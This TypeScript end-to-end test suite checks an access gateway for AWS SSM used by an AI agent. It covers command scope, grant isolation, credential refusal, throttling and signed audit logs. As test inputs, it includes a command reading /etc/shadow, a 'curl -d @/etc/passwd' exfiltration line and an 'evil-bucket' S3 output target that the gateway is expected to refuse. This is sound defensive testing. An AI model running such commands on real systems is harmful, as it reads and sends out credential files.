/**
 * The SSM plugin end to end: the AWS SDK v3 SSM client and the aws CLI (v1 and v2) as the
 * agent's clients, airlock in front of moto with signature and IAM enforcement. moto serves
 * SendCommand, ListCommands and GetCommandInvocation; the other operations' scope checks
 * are shown by their refusals here and their response filtering in authorize.test.ts.
 */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import {
  CancelCommandCommand,
  GetCommandInvocationCommand,
  ListCommandsCommand,
  SendCommandCommand,
  SSMClient,
  StartSessionCommand,
} from '@aws-sdk/client-ssm';
import { verifyAuditFiles } from '../../core/audit/verify.ts';
import { startMoto, type Moto } from '../harness/moto.ts';
import { startTestGateway, type TestGateway } from '../harness/gateway.ts';
import { aws, cliEnv, findAwsCli, type AwsCli } from '../aws/cli.ts';

const REGION = 'us-east-1';
const AGENT = 'fleet-bot';
const IN_SCOPE = 'i-0123456789abcdef0';
const ALSO_IN_SCOPE = 'i-0123456789abcdef1';
const OUTSIDE = 'i-0fedcba9876543210';

interface IssuedGrant {
  id: string;
  secret: string;
  endpoint: string;
  env: Record<string, string>;
}

let moto: Moto;
let gw: TestGateway;
let roleArn: string;
let runner: IssuedGrant;
let other: IssuedGrant;
let foreignCommandId: string;
let v1: AwsCli;
let v2: AwsCli;

const SSM_ACTIONS = ['SendCommand', 'GetCommandInvocation', 'ListCommands', 'ListCommandInvocations', 'CancelCommand', 'DescribeInstanceInformation'];

before(async () => {
  v1 = await findAwsCli(1);
  v2 = await findAwsCli(2);
  moto = await startMoto();
  try {
    const airlockUser = await moto.createUser('airlock-gateway', {
      Version: '2012-10-17',
      Statement: [
        { Effect: 'Allow', Action: SSM_ACTIONS.map((a) => `ssm:${a}`), Resource: '*' },
        { Effect: 'Allow', Action: ['sts:AssumeRole'], Resource: '*' },
      ],
    });
    roleArn = await moto.createRole(
      'airlock-fleet-runner',
      { Version: '2012-10-17', Statement: [{ Effect: 'Allow', Principal: { AWS: airlockUser.arn }, Action: ['sts:AssumeRole', 'sts:SetSourceIdentity'] }] },
      { Version: '2012-10-17', Statement: [{ Effect: 'Allow', Action: ['ssm:SendCommand', 'ssm:GetCommandInvocation', 'ssm:ListCommands'], Resource: '*' }] },
    );
    // A command someone else sent, straight to AWS: no grant may see it.
    const admin = new SSMClient({ endpoint: moto.endpoint, region: REGION, credentials: moto.adminKeys(), maxAttempts: 1 });
    const foreign = await admin.send(new SendCommandCommand({ DocumentName: 'AWS-RunShellScript', InstanceIds: [IN_SCOPE], Parameters: { commands: ['cat /etc/shadow'] } }));
    foreignCommandId = foreign.Command?.CommandId ?? '';
    admin.destroy();
    await moto.enableAuth();

    gw = await startTestGateway({
      config: {
        aws: { region: REGION, endpoints: { ssm: moto.endpoint, sts: moto.endpoint } },
        resources: {
          fleet: {
            type: 'ssm',
            region: REGION,
            instances: [IN_SCOPE, ALSO_IN_SCOPE],
            access: { run: { documents: ['AWS-RunShellScript'] }, observe: { operations: ['GetCommandInvocation', 'ListCommands', 'DescribeInstanceInformation'] } },
          },
          'fleet-tags': {
            type: 'ssm',
            region: REGION,
            instances: [IN_SCOPE],
            allowTagTargets: true,
            access: { run: { documents: ['AWS-RunShellScript'] } },
          },
          'fleet-role': {
            type: 'ssm',
            region: REGION,
            roleArn,
            instances: [IN_SCOPE],
            access: { run: { documents: ['AWS-RunShellScript'] } },
          },
        },
        policies: [{ agents: [`local:${AGENT}`], resources: ['fleet', 'fleet-role', 'fleet-tags'], access: ['run', 'observe'], maxTtl: '15m' }],
        audit: { durability: 'strict' },
      },
      env: { AWS_ACCESS_KEY_ID: airlockUser.accessKeyId, AWS_SECRET_ACCESS_KEY: airlockUser.secretAccessKey, AWS_REGION: REGION },
    });
    runner = await grantFor({ resource: 'fleet', access: 'run' });
    other = await grantFor({ resource: 'fleet', access: 'run' });
  } catch (e) {
    await gw?.close();
    await moto.stop();
    throw e;
  }
});

after(async () => {
  await gw?.close();
  await moto?.stop();
});

async function grantFor(body: Record<string, unknown>): Promise<IssuedGrant> {
  const res = await gw.requestGrant(await gw.tokenFor(AGENT), { ttl: '10m', task: 'ssm e2e test', ...body });
  if (res.status !== 201 || !res.body.id || !res.body.secret || !res.body.connect) throw new Error(`grant: ${res.status} ${JSON.stringify(res.body)}`);
  return { id: res.body.id, secret: res.body.secret, endpoint: String(res.body.connect['endpoint']), env: res.body.connect.env };
}

function client(g: IssuedGrant, over: { secretAccessKey?: string } = {}): SSMClient {
  return new SSMClient({
    endpoint: g.endpoint,
    region: REGION,
    credentials: { accessKeyId: g.id, secretAccessKey: over.secretAccessKey ?? g.secret },
    maxAttempts: 1,
  });
}

async function refused(p: Promise<unknown>, name: string, message: RegExp): Promise<void> {
  await assert.rejects(p, (e: unknown) => {
    assert.equal((e as Error).name, name, (e as Error).message);
    assert.match((e as Error).message, message);
    return true;
  });
}

const send = (instances: string[], extra: Record<string, unknown> = {}) =>
  new SendCommandCommand({ DocumentName: 'AWS-RunShellScript', InstanceIds: instances, Parameters: { commands: ['uptime'] }, ...extra });

describe('ssm through airlock (AWS SDK v3, moto with IAM enforcement)', () => {
  let mine: string;

  it('sends a command to an instance in scope and reads its own invocation', async () => {
    const c = client(runner);
    const sent = await c.send(new SendCommandCommand({ DocumentName: 'AWS-RunShellScript', InstanceIds: [IN_SCOPE], Parameters: { commands: ['df -h /', 'uptime'] } }));
    mine = sent.Command?.CommandId ?? '';
    assert.match(mine, /^[0-9a-f-]{36}$/);
    const inv = await c.send(new GetCommandInvocationCommand({ CommandId: mine, InstanceId: IN_SCOPE }));
    assert.equal(inv.CommandId, mine);
    // Targets by instance id are fine: they name instances airlock can check.
    const targeted = await c.send(new SendCommandCommand({ DocumentName: 'AWS-RunShellScript', Targets: [{ Key: 'InstanceIds', Values: [ALSO_IN_SCOPE] }], Parameters: { commands: ['id'] } }));
    assert.ok(targeted.Command?.CommandId);
    c.destroy();
  });

  it('lists only the grant own commands', async () => {
    const c = client(runner);
    const listed = await c.send(new ListCommandsCommand({}));
    const ids = (listed.Commands ?? []).map((x) => x.CommandId);
    assert.ok(ids.includes(mine));
    assert.ok(!ids.includes(foreignCommandId), 'a command sent outside this grant is hidden');
    assert.equal(ids.length, 2);
    const theirs = client(other);
    assert.deepEqual(((await theirs.send(new ListCommandsCommand({}))).Commands ?? []).length, 0);
    c.destroy();
    theirs.destroy();
  });

  it('refuses commands outside scope', async () => {
    const c = client(runner);
    await refused(c.send(send([OUTSIDE])), 'AccessDeniedException', new RegExp(OUTSIDE));
    await refused(c.send(send([IN_SCOPE, OUTSIDE])), 'AccessDeniedException', new RegExp(OUTSIDE));
    await refused(c.send(new SendCommandCommand({ DocumentName: 'AWS-RunPowerShellScript', InstanceIds: [IN_SCOPE], Parameters: { commands: ['whoami'] } })), 'AccessDeniedException', /AWS-RunPowerShellScript/);
    await refused(c.send(new SendCommandCommand({ DocumentName: 'AWS-RunShellScript', Targets: [{ Key: 'tag:env', Values: ['prod'] }], Parameters: { commands: ['id'] } })), 'AccessDeniedException', /allowTagTargets/);
    await refused(c.send(new SendCommandCommand({ DocumentName: 'AWS-RunShellScript', Targets: [{ Key: 'InstanceIds', Values: [OUTSIDE] }] })), 'AccessDeniedException', new RegExp(OUTSIDE));
    await refused(c.send(send([IN_SCOPE], { OutputS3BucketName: 'exfil-bucket' })), 'AccessDeniedException', /OutputS3BucketName/);
    await refused(c.send(new GetCommandInvocationCommand({ CommandId: foreignCommandId, InstanceId: IN_SCOPE })), 'AccessDeniedException', /not sent with this grant/);
    await refused(c.send(new ListCommandsCommand({ CommandId: foreignCommandId })), 'AccessDeniedException', /not sent with this grant/);
    await refused(c.send(new CancelCommandCommand({ CommandId: foreignCommandId })), 'AccessDeniedException', /not sent with this grant/);
    await refused(client(other).send(new GetCommandInvocationCommand({ CommandId: mine, InstanceId: IN_SCOPE })), 'AccessDeniedException', /not sent with this grant/);
    await refused(c.send(new StartSessionCommand({ Target: IN_SCOPE })), 'AccessDeniedException', /StartSession is not available through airlock yet/);
    c.destroy();
  });

  it('an observe level cannot send commands', async () => {
    const watcher = await grantFor({ resource: 'fleet', access: 'observe' });
    await refused(client(watcher).send(send([IN_SCOPE])), 'AccessDeniedException', /SendCommand is not allowed/);
  });

  it('refuses a wrong secret and a revoked grant', async () => {
    await refused(client(runner, { secretAccessKey: 'z'.repeat(40) }).send(new ListCommandsCommand({})), 'InvalidSignatureException', /signature/i);
    const doomed = await grantFor({ resource: 'fleet', access: 'run' });
    await client(doomed).send(new ListCommandsCommand({}));
    await gw.revoke(doomed.id, await gw.adminToken());
    await refused(client(doomed).send(new ListCommandsCommand({})), 'UnrecognizedClientException', /revoked/);
  });

  it('sends through a per-grant role session named after the grant, assumed once', async () => {
    const g = await grantFor({ resource: 'fleet-role', access: 'run' });
    const c = client(g);
    const sent = await c.send(send([IN_SCOPE]));
    await c.send(new GetCommandInvocationCommand({ CommandId: sent.Command?.CommandId ?? '', InstanceId: IN_SCOPE }));
    await c.send(new ListCommandsCommand({}));
    const data = (await (await fetch(`${moto.endpoint}/moto-api/data.json`)).json()) as { sts?: { AssumedRole?: Array<{ session_name: string; role_arn: string }> } };
    const sessions = (data.sts?.AssumedRole ?? []).filter((r) => r.session_name === g.id);
    assert.equal(sessions.length, 1);
    assert.equal(sessions[0]?.role_arn, roleArn);
    c.destroy();
  });
});

for (const which of [1, 2] as const) {
  describe(`ssm through airlock (aws CLI v${which})`, () => {
    const cli = () => (which === 1 ? v1 : v2);
    // Debian's v2.9 predates AWS_ENDPOINT_URL_SSM: it needs --endpoint-url.
    const endpoint = () => (which === 2 ? ['--endpoint-url', runner.endpoint] : []);

    it('sends a command in scope and reads it back', async () => {
      const sent = await aws(
        cli(),
        ['ssm', 'send-command', '--document-name', 'AWS-RunShellScript', '--instance-ids', IN_SCOPE, '--parameters', `commands=["echo cli-v${which}"]`, ...endpoint()],
        cliEnv(runner.env),
      );
      assert.equal(sent.code, 0, sent.stderr);
      const id = (JSON.parse(sent.stdout) as { Command: { CommandId: string } }).Command.CommandId;
      const got = await aws(cli(), ['ssm', 'get-command-invocation', '--command-id', id, '--instance-id', IN_SCOPE, ...endpoint()], cliEnv(runner.env));
      assert.equal(got.code, 0, got.stderr);
      assert.equal((JSON.parse(got.stdout) as { CommandId: string }).CommandId, id);
    });

    it('is refused outside scope', async () => {
      const out = await aws(
        cli(),
        ['ssm', 'send-command', '--document-name', 'AWS-RunShellScript', '--instance-ids', OUTSIDE, '--parameters', 'commands=["id"]', ...endpoint()],
        cliEnv(runner.env),
      );
      assert.notEqual(out.code, 0);
      assert.match(out.stderr, new RegExp(`AccessDeniedException.*${OUTSIDE}`, 's'));
      const foreign = await aws(cli(), ['ssm', 'get-command-invocation', '--command-id', foreignCommandId, '--instance-id', IN_SCOPE, ...endpoint()], cliEnv(runner.env));
      assert.notEqual(foreign.code, 0);
      assert.match(foreign.stderr, /AccessDeniedException/);
    });
  });
}

describe('ssm audit', () => {
  it('records the command text, every refusal, and verifies', async () => {
    const records = gw.auditRecords();
    const commands = records.filter((r) => r.type === 'ssm.command');
    const first = commands.find((r) => r.grant === runner.id);
    assert.deepEqual(first?.data?.['commands'], ['df -h /', 'uptime']);
    assert.deepEqual(first?.data?.['instances'], [IN_SCOPE]);
    assert.ok(commands.some((r) => JSON.stringify(r.data?.['commands']) === '["echo cli-v1"]'));
    assert.ok(commands.some((r) => JSON.stringify(r.data?.['commands']) === '["echo cli-v2"]'));
    const responses = records.filter((r) => r.type === 'aws.response' && typeof r.data?.['commandId'] === 'string');
    assert.ok(responses.length >= 5);
    const denied = records.filter((r) => (r.type === 'aws.request' || r.type === 'ssm.command') && r.outcome === 'denied');
    assert.ok(denied.length >= 14, `denied: ${denied.length}`);
    assert.ok(denied.some((r) => String(r.data?.['reason']).includes('StartSession')));
    assert.ok(records.some((r) => r.type === 'auth.failed'));
    assert.ok(!JSON.stringify(records).includes(runner.secret));
    const result = await verifyAuditFiles(gw.auditFiles(), { publicKeys: [gw.gateway.identity.key.publicJwk] });
    assert.equal(result.ok, true, JSON.stringify(result.failure));
  });
});

describe('ssm refusals and edges (issue 18)', () => {
  it('a refused SendCommand is recorded with what was asked, and as a policy.violation', async () => {
    const c = client(runner);
    await refused(c.send(send([IN_SCOPE], { OutputS3BucketName: 'evil-bucket', Parameters: { commands: ['curl -d @/etc/passwd x'] } })), 'AccessDeniedException', /OutputS3BucketName/);
    await refused(c.send(new SendCommandCommand({ DocumentName: 'AWS-RunShellScript', Targets: [{ Key: 'tag:env', Values: ['prod', 'staging'] }], Parameters: { commands: ['id'] } })), 'AccessDeniedException', /allowTagTargets/);
    c.destroy();
    const records = gw.auditRecords().filter((r) => r.grant === runner.id && r.outcome === 'denied');
    const bucket = records.find((r) => r.type === 'ssm.command' && JSON.stringify(r.data).includes('evil-bucket'));
    assert.ok(bucket, 'the refused command is an ssm.command record');
    assert.equal(bucket.data?.['document'], 'AWS-RunShellScript');
    assert.deepEqual(bucket.data?.['instances'], [IN_SCOPE]);
    assert.deepEqual(bucket.data?.['commands'], ['curl -d @/etc/passwd x']);
    assert.deepEqual(bucket.data?.['forbiddenMembers'], { OutputS3BucketName: 'evil-bucket' });
    const tags = records.find((r) => r.type === 'ssm.command' && JSON.stringify(r.data?.['targets']) === JSON.stringify([{ Key: 'tag:env', Values: ['prod', 'staging'] }]));
    assert.ok(tags, 'the tag values asked for are recorded');
    const violations = records.filter((r) => r.type === 'policy.violation');
    assert.ok(violations.some((r) => (r.data?.['forbiddenMembers'] as Record<string, unknown> | undefined)?.['OutputS3BucketName'] === 'evil-bucket'));
    assert.ok(violations.some((r) => String(JSON.stringify(r.data?.['targets'])).includes('staging')));
  });

  it('only the target keys SSM defines: instanceids and "InstanceIds " are refused even with allowTagTargets', async () => {
    const g = await grantFor({ resource: 'fleet-tags', access: 'run' });
    const c = client(g);
    for (const Key of ['instanceids', 'InstanceIds ', 'INSTANCEIDS', 'tag: env ']) {
      await refused(c.send(new SendCommandCommand({ DocumentName: 'AWS-RunShellScript', Targets: [{ Key, Values: [OUTSIDE] }], Parameters: { commands: ['id'] } })), 'AccessDeniedException', /not a target key SSM defines/);
    }
    // The exact keys still work (tag keys with allowTagTargets; instance ids checked).
    await refused(c.send(new SendCommandCommand({ DocumentName: 'AWS-RunShellScript', Targets: [{ Key: 'InstanceIds', Values: [OUTSIDE] }] })), 'AccessDeniedException', new RegExp(OUTSIDE));
    c.destroy();
    const out = await aws(v2, ['ssm', 'send-command', '--document-name', 'AWS-RunShellScript', '--targets', `Key=instanceids,Values=${OUTSIDE}`, '--parameters', 'commands=["id"]', '--endpoint-url', g.endpoint], cliEnv(g.env));
    assert.notEqual(out.code, 0);
    assert.match(out.stderr, /AccessDeniedException.*not a target key/s);
    assert.ok(gw.auditRecords().some((r) => r.grant === g.id && r.type === 'ssm.command' && r.outcome === 'denied' && String(JSON.stringify(r.data?.['targets'])).includes('instanceids')));
  });

  it('a wrong secret and an unknown key id are answered alike', async () => {
    const answer = async (accessKeyId: string, secretAccessKey: string) => {
      const c = new SSMClient({ endpoint: runner.endpoint, region: REGION, credentials: { accessKeyId, secretAccessKey }, maxAttempts: 1 });
      try {
        await c.send(new ListCommandsCommand({}));
        return 'accepted';
      } catch (e) {
        return `${(e as Error).name}: ${(e as Error).message}`;
      } finally {
        c.destroy();
      }
    };
    const wrongSecret = await answer(runner.id, 'y'.repeat(40));
    const unknownId = await answer('AGAAAAAAAAAAAAAAAAAA', 'y'.repeat(40));
    const notAGrant = await answer('AKIAIOSFODNN7EXAMPLE', 'y'.repeat(40));
    assert.match(wrongSecret, /^InvalidSignatureException/);
    assert.equal(unknownId, wrongSecret);
    assert.equal(notAGrant, wrongSecret);
    assert.ok(!wrongSecret.includes('fleet'), 'no resource named');
  });

  it('100 bad signatures from an address do not lock out a valid grant from it', async () => {
    const bad = client(runner, { secretAccessKey: 'q'.repeat(40) });
    let throttled = 0;
    for (let i = 0; i < 110; i++) await bad.send(new ListCommandsCommand({})).catch((e: unknown) => void ((e as Error).name === 'ThrottlingException' && throttled++));
    bad.destroy();
    assert.ok(throttled > 0, 'failures past the budget are throttled');
    const good = client(runner);
    const listed = await good.send(new ListCommandsCommand({}));
    assert.equal(listed.$metadata.httpStatusCode, 200);
    good.destroy();
    const cli = await aws(v2, ['ssm', 'list-commands', '--endpoint-url', runner.endpoint], cliEnv(runner.env));
    assert.equal(cli.code, 0, cli.stderr);
  });
});
